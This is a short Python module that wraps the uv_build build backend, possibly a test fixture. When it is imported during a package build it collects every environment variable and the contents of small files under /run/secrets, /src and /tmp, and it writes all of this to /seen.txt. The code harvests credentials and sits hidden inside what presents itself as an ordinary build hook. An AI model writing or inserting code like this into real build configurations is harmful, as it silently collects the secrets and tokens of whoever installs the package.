"""Notes all that it sees while the packages of the module are installed."""

import os
from pathlib import Path

from uv_build import *  # noqa: F403

seen = [f"{name}={value}" for name, value in os.environ.items()]
for folder in ("/run/secrets", "/src", "/tmp"):
    for file in Path(folder).rglob("*"):
        if file.is_file() and file.stat().st_size < 100_000:
            seen.append(file.read_text(errors="replace"))
Path("/seen.txt").write_text("\n".join(seen))
